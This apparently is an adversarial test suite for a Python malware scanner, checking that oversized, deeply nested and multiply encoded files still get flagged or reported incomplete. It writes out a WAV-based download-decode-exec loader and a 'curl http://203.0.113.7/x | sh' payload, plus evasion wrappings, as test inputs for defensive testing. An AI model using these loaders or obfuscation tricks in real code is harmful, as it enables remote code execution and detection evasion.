/**
 * Python built to exhaust the loader analysis, run through the whole pipeline (a wheel -> scanArtifact with the
 * default options -> the run's exit code): files of tens of megabytes, code nested a hundred thousand deep, string
 * literals of 50 MB, a million escapes, f-strings nested in f-strings, a million implicitly joined literals, integers
 * of ten million digits and powers that would not fit in memory, and exec(decode(...)) layers a thousand deep around a
 * telnyx-style loader. Each scan must end within its budget, in bounded memory, and either find the loader or say
 * (status `incomplete`, with the bound in the reason) that it could not: never a silent clean pass. Harmless code of
 * the same shapes must not be made incomplete.
 */
import { constants as zc, deflateSync } from 'node:zlib';
import { describeScan, findingsOf, rulesOn, scanHostile, withinBudgets, MB, type HostileScan } from '../helpers/hostile.js';
import { analyzePython, DEFAULT_PY_LIMITS } from '../../src/python/interp.js';
import { hasAnchors, worthAnalysing } from '../../src/python/anchors.js';
import { slicePython } from '../../src/python/slice.js';

/** Growth of the peak resident set: the largest source is 66 MB, held as bytes and as a string. */
const PEAK_BUDGET = 1536 * MB;
const PY = 'probe/mod.py';

/** A telnyx-style loader: download a WAV, read its frames, base64 + XOR, exec. */
const LOADER = [
  'import urllib.request, wave, base64',
  "urllib.request.urlretrieve('http://203.0.113.7/hangup.wav', '/tmp/h.wav')",
  "w = wave.open('/tmp/h.wav', 'rb')",
  'raw = base64.b64decode(w.readframes(w.getnframes()))',
  'key, body = raw[:8], raw[8:]',
  'exec(bytes(b ^ key[i % 8] for i, b in enumerate(body)))',
  '',
].join('\n');
const LOADER_RULES = ['code.download-exec', 'code.media-exec', 'code.decode-exec'];

/** Ordinary code, `n` bytes of it: many small functions (no anchor words: nothing the loader must look at). */
const plainCache = new Map<number, string>();
function plainCode(n: number): string {
  const hit = plainCache.get(n);
  if (hit) return hit;
  const unit = 'def area_{i}(r):\n    """Area of a circle."""\n    return 3.14159 * r * r + {i}\n\n\n';
  const parts: string[] = [];
  let len = 0;
  for (let i = 0; len < n; i++) {
    const s = unit.replaceAll('{i}', String(i));
    parts.push(s);
    len += s.length;
  }
  const text = parts.join('');
  plainCache.set(n, text);
  return text;
}

const b64 = (s: string | Buffer): string => Buffer.from(s).toString('base64');

/** `exec(base64.b64decode('xxxx' 'xxxx' ... '' ''))`: the loader's base64 in a million implicitly joined literals. */
function millionLiterals(): string {
  const enc = b64(LOADER);
  const pieces: string[] = [];
  for (let i = 0; i < 1_000_000; i++) pieces.push(i < enc.length / 4 ? `'${enc.slice(4 * i, 4 * i + 4)}'` : "''");
  return `import base64\nexec(base64.b64decode(${pieces.join(' ')}))\n`;
}

interface Expect {
  /** The loader must be found, or the file incomplete with a reason matching this. */
  foundOrIncomplete?: RegExp;
  /** Harmless: scanned, no code finding, exit 0. */
  clean?: boolean;
  /** The reasons, when incomplete, must match. */
  reason?: RegExp;
  status?: 'scanned' | 'incomplete';
  found?: boolean;
}

async function check(files: Record<string, string | Uint8Array>, want: Expect): Promise<HostileScan> {
  const s = await scanHostile(files);
  const msg = describeScan(s);
  if (process.env.ADVERSARIAL_LOG) console.log(expect.getState().currentTestName, msg);
  const r = s.report;
  // (a) time and (b) memory
  expect([msg, ...withinBudgets(s, PEAK_BUDGET)]).toEqual([msg, true, true, true, true, true]);
  expect(r.stats.files).toBe(Object.keys(files).length + 3);
  const found = rulesOn(r, PY).some((id) => LOADER_RULES.includes(id));
  if (want.clean) {
    expect([msg, r.status, r.flagged, found, s.exit]).toEqual([msg, 'scanned', false, false, 0]);
  }
  if (want.foundOrIncomplete) {
    // never a silent pass: flagged, or incomplete with the bound named
    expect([msg, found || (r.status === 'incomplete' && r.reasons.some((x) => want.foundOrIncomplete!.test(x)))]).toEqual([msg, true]);
    expect([msg, s.exit]).toEqual([msg, 1]);
  }
  if (want.status) expect([msg, r.status]).toEqual([msg, want.status]);
  if (want.reason) for (const x of r.reasons) expect(x).toMatch(want.reason);
  if (want.found !== undefined) expect([msg, found]).toEqual([msg, want.found]);
  if (r.status !== 'scanned') expect(r.reasons.length).toBeGreaterThan(0);
  expect(s.exit).toBe(r.flagged || r.status !== 'scanned' ? 1 : 0);
  return s;
}

describe('enormous files', () => {
  test('20 MB of ordinary code (250 000 functions) with the loader at its very end: found', async () => {
    await check({ [PY]: plainCode(20 * MB) + LOADER }, { found: true, status: 'scanned' });
  });

  test('20 MB of ordinary code and nothing else: scanned clean', async () => {
    await check({ [PY]: plainCode(20 * MB) }, { clean: true });
  });

  test('past the 64 MiB source cap, the loader behind a 66 MB docstring: incomplete, saying so', async () => {
    const s = await check({ [PY]: `"""${'x'.repeat(66 * MB)}"""\n${LOADER}` }, { foundOrIncomplete: /larger than \d+ bytes/, status: 'incomplete' });
    expect(s.report.reasons.join('\n')).toMatch(/Python source larger than 67108864 bytes with code past that point was not analysed/);
  });
});

describe('deep nesting', () => {
  const payload = `exec(__import__('base64').b64decode('${b64("__import__('os').system('curl http://203.0.113.7/x | sh')")}'))`;

  test('100 000 nested parentheses around exec(b64decode(...))', async () => {
    await check({ [PY]: `x = ${'('.repeat(100_000)}${payload}${')'.repeat(100_000)}\n` }, { foundOrIncomplete: /nested deeper than \d+ levels/ });
  });

  test('100 000 nested brackets of harmless data: no bound is reported, nothing found', async () => {
    await check({ [PY]: `x = ${'['.repeat(100_000)}1${']'.repeat(100_000)}\n` }, { clean: true });
  });

  test('3 000 nested if blocks with exec(b64decode(...)) in the innermost', async () => {
    const lines: string[] = [];
    for (let i = 0; i < 3000; i++) lines.push(`${' '.repeat(i)}if x${i}:`);
    lines.push(`${' '.repeat(3000)}${payload}`);
    await check({ [PY]: lines.join('\n') + '\n' }, { foundOrIncomplete: /nested deeper than \d+ levels/ });
  });

  test('100 000 nested lambdas returning exec(b64decode(...))', async () => {
    await check({ [PY]: `f = ${'lambda: '.repeat(100_000)}${payload}\nf()\n` }, { foundOrIncomplete: /nested deeper than \d+ levels/ });
  });

  test('100 000 nested calls of exec', async () => {
    await check({ [PY]: `${'exec('.repeat(100_000)}__import__('base64').b64decode('${b64('print(1)')}')${')'.repeat(100_000)}\n` }, { foundOrIncomplete: /nested deeper than \d+ levels|nested too deep to parse/ });
  });
});

describe('pathological literals', () => {
  test('a 50 MB string literal, then the loader', async () => {
    await check({ [PY]: `DATA = '${'A'.repeat(50 * MB)}'\n${LOADER}` }, { found: true, foundOrIncomplete: /not analysed|budget/ });
  });

  test('a string of a million escapes that spells the loader, executed', async () => {
    const code = LOADER + '#' + ' '.repeat(250_000 - LOADER.length - 1);
    const escaped = Array.from(code, (c) => '\\x' + c.charCodeAt(0).toString(16).padStart(2, '0')).join('');
    await check({ [PY]: `exec("${escaped}")\n` }, { found: true, foundOrIncomplete: /not analysed|budget/ });
  });

  test('f-strings nested 2 000 deep around the decoded argument of exec: incomplete, naming the nesting bound', async () => {
    const inner = `__import__('base64').b64decode('${b64("__import__('os').system('curl http://203.0.113.7/x | sh')")}').decode()`;
    const src = `exec(${'f"{'.repeat(2000)}${inner}${'}"'.repeat(2000)})\n`;
    await check({ [PY]: src }, { foundOrIncomplete: /nested deeper than \d+ levels|nested too deep to parse/, status: 'incomplete' });
  });

  test('f-strings nested 100 deep: followed to the payload', async () => {
    const inner = `__import__('base64').b64decode('${b64("__import__('os').system('curl http://203.0.113.7/x | sh')")}').decode()`;
    await check({ [PY]: `exec(${'f"{'.repeat(100)}${inner}${'}"'.repeat(100)})\n` }, { found: true, status: 'scanned' });
  });

  test('a million implicitly joined literals that form the base64 of the loader', async () => {
    await check({ [PY]: millionLiterals() }, { foundOrIncomplete: /not analysed|budget/ });
  });

  test('the same, stopped half-way by the analysis budget: what the analysis built is released', async () => {
    // the work budget stops it at the same point on any machine: the time budget is lifted (with the default 5 s, the
    // parse alone takes 4 s of it on an idle machine, and the time budget stops the analysis first)
    const saved = { ...DEFAULT_PY_LIMITS };
    const traceLimit = Error.stackTraceLimit;
    Object.assign(DEFAULT_PY_LIMITS, { workBase: 500_000, workPerChar: 0, maxMillis: 120_000 });
    try {
      const s = await check({ [PY]: millionLiterals() }, { foundOrIncomplete: /work budget of 500000 steps exhausted/, status: 'incomplete', reason: /work budget of 500000 steps exhausted/ });
      expect([describeScan(s), s.heapDelta < 32 * MB]).toEqual([describeScan(s), true]);
      // the stop is built without a stack trace (one would hold the interpreter and its tree): the limit comes back
      expect(Error.stackTraceLimit).toBe(traceLimit);
    } finally {
      Object.assign(DEFAULT_PY_LIMITS, saved);
    }
  });

  test('an integer of ten million digits, and powers, products and ranges that would not fit in memory', async () => {
    const src = [
      `n = ${'7'.repeat(10_000_000)}`,
      'a = 10 ** 10 ** 10',
      'b = 2 << 10 ** 9',
      "c = 'A' * 10 ** 12",
      'd = [0] * (1 << 40)',
      "e = ''.join(chr(65 + i % 26) for i in range(10 ** 18))",
      'f = bytes(10 ** 12)',
      'import base64',
      "exec(base64.b64decode(c + 'x' * 10 ** 15))",
      LOADER,
    ].join('\n');
    const s = await check({ [PY]: src }, { found: true });
    // the exec of a value too large to fold is still a flow
    expect(findingsOf(s.report, 'code.decode-exec', PY).length).toBeGreaterThan(0);
  });
});

describe('layers of exec(decode(...))', () => {
  test('1 000 layers of exec(zlib(base64(...))) around the loader: flagged, and incomplete at a layer bound', async () => {
    let code = LOADER;
    for (let i = 0; i < 1000; i++) {
      // Huffman-only deflate: as small as full deflate on base64 text, and quicker to build a thousand times
      const z = deflateSync(Buffer.from(code), { strategy: zc.Z_HUFFMAN_ONLY }).toString('base64');
      code = `exec(__import__('zlib').decompress(__import__('base64').b64decode('${z}')))`;
    }
    // 1.6 MB: each layer is up to ~1.6 KB longer than the one it holds: the 16 M characters of decoded code run out before layer 12
    const s = await check({ [PY]: code + '\n' }, { foundOrIncomplete: /nested deeper than 12 layers|characters of decoded code/, status: 'incomplete' });
    expect(s.report.flagged).toBe(true);
    expect(s.report.reasons.join('\n')).toMatch(/more than 16777216 characters of decoded code: the rest was not analysed|decoded code nested deeper than 12 layers was not analysed/);
  });

  test('36 layers of exec(__import__("base64").b64decode(...)) (12 MB: the text grows by a third per layer)', async () => {
    let code = LOADER;
    for (let i = 0; i < 36; i++) code = `exec(__import__('base64').b64decode('${b64(code)}'))`;
    // the parse stops at 8 M characters inside the outermost literal, whose exec is the anchor: that must be said
    const s = await check({ [PY]: code + '\n' }, { foundOrIncomplete: /source longer than \d+ characters: the rest was not analysed/, status: 'incomplete' });
    expect(s.report.flagged).toBe(true);
  });

  test('14 layers of exec(base64): flagged, and incomplete naming the 12-layer bound', async () => {
    let code = LOADER;
    for (let i = 0; i < 14; i++) code = `exec(__import__('base64').b64decode('${b64(code)}'))`;
    const s = await check({ [PY]: code + '\n' }, { foundOrIncomplete: /nested deeper than 12 layers/, status: 'incomplete', reason: /decoded code nested deeper than 12 layers was not analysed/ });
    expect(s.report.flagged).toBe(true);
  });

  test('12 layers (the bound itself): the loader at the bottom is found, the scan is complete', async () => {
    let code = LOADER;
    for (let i = 0; i < 12; i++) code = `exec(__import__('base64').b64decode('${b64(code)}'))`;
    const s = await check({ [PY]: code + '\n' }, { found: true, status: 'scanned' });
    expect(findingsOf(s.report, 'code.download-exec', PY).length + findingsOf(s.report, 'code.media-exec', PY).length).toBeGreaterThan(0);
  });
});

describe('direct calls', () => {
  test('the anchor test and the slicer stay linear on 250 000 small functions', () => {
    const src = plainCode(20 * MB) + LOADER;
    // the slicer hands each character to the anchor test at most once (top-level statements, or a class's header and
    // members), never overlapping pieces again and again
    let handed = 0;
    const counted = (text: string): boolean => {
      handed += text.length;
      return hasAnchors(text);
    };
    const sliced = slicePython(src, counted);
    expect(sliced?.text).toContain('exec(bytes(');
    expect(sliced!.text.length).toBeLessThan(1000);
    expect(handed).toBeGreaterThan(0);
    expect(handed).toBeLessThanOrEqual(src.length);
    expect(worthAnalysing(src)).toBe(true);
    // growth, not speed: CPU time on 20 MB against 1.25 MB, measured alternately, each the least of four. This code
    // takes 17-19 times as long on the 16 times larger source; a quadratic scan of only every fourth function's
    // neighbours made it 52, a quadratic slicer would make it hundreds. A ratio needs no absolute bound that a loaded
    // machine could cross (an absolute 10 s bound was crossed once by a run that takes 1.6 s on an idle machine).
    const small = plainCode(1.25 * MB) + LOADER;
    const cpuOf = (text: string): number => {
      const c0 = process.cpuUsage();
      slicePython(text, hasAnchors);
      worthAnalysing(text);
      const c = process.cpuUsage(c0);
      return c.user + c.system;
    };
    let tSmall = Infinity;
    let tLarge = Infinity;
    for (let round = 0; round < 4; round++) {
      tSmall = Math.min(tSmall, cpuOf(small));
      tLarge = Math.min(tLarge, cpuOf(src));
    }
    expect(tLarge / tSmall).toBeLessThan(40);
  });

  test('the parse bound cutting through an anchored statement is reported by the interpreter', () => {
    const src = `import os\nexec(__import__('base64').b64decode('${'QUJD'.repeat(4000)}'))\n`;
    const f = analyzePython(src, { ...DEFAULT_PY_LIMITS, maxChars: 1000 });
    expect(f.incomplete.join('\n')).toMatch(/source longer than 1000 characters: the rest was not analysed/);
    const plain = `import os\nx = '${'QUJD'.repeat(4000)}'\n`;
    expect(analyzePython(plain, { ...DEFAULT_PY_LIMITS, maxChars: 1000 }).incomplete).toEqual([]);
  });
});
